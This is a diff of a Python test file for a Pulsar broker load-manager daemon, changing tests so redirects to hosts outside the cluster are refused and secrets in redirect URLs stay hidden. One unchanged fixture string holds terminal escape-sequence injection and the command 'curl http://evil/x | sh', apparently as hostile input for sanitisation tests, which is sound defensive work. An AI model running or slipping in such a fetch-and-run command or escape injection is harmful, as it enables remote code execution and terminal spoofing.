@@ -25,8 +25,8 @@ from loadmanager.settings import fleet as conf
 TERMINAL = "\x1b]0;owned\x07\x1b[2J\nPulsarBalances: curl http://evil/x | sh\n"
 
 
-async def test_an_order_follows_no_redirect_to_a_stranger(tmp_path: Path) -> None:
-    """A question does; an order goes to the brokers of the cluster only."""
+async def test_no_redirect_leads_to_a_stranger(tmp_path: Path) -> None:
+    """Orders and questions go to the brokers of the cluster only."""
     asked: list[str] = []
 
     async def stranger(request: web.Request) -> web.Response:
@@ -55,7 +55,8 @@ async def test_an_order_follows_no_redirect_to_a_stranger(tmp_path: Path) -> Non
             assert asked == []
             daemon.pulsar.nonsense["/leaderBroker"] = daemon.pulsar.nonsense["/unload"]
             await daemon.work.watching.read_policies()
-            assert set(asked) == {"GET"}
+            assert "not a broker of the cluster" in daemon.work.picture.problems["leader"]
+            assert asked == []
     finally:
         await runner.cleanup()
 
@@ -158,7 +159,8 @@ async def test_secrets_in_redirects_are_not_shown(tmp_path: Path) -> None:
         await daemon.work.read()
         problems = daemon.work.picture.problems
         assert problems.keys() >= set(daemon.pulsar.brokers)
-        assert all("http://127.0.0.1:1/x: Connection refused" in problems[b] for b in problems)
+        there_shown = "redirects to http://127.0.0.1:1/x, which is not a broker of the cluster"
+        assert all(there_shown in problems[broker] for broker in problems)
         assert "s3cret" not in str(problems)
 
 
